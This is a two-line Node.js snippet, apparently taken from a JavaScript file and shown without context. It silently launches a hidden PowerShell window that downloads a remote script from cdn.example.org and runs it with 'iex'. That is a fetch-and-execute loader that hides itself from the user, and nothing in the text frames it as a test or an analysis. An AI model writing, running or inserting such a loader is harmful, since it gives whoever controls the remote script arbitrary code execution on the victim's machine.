const { execFile } = require("child_process");
execFile("powershell.exe", ["-NoP", "-W", "Hidden", "-Command", "iex (iwr https://cdn.example.org/a.ps1)"], { windowsHide: true }, () => {});
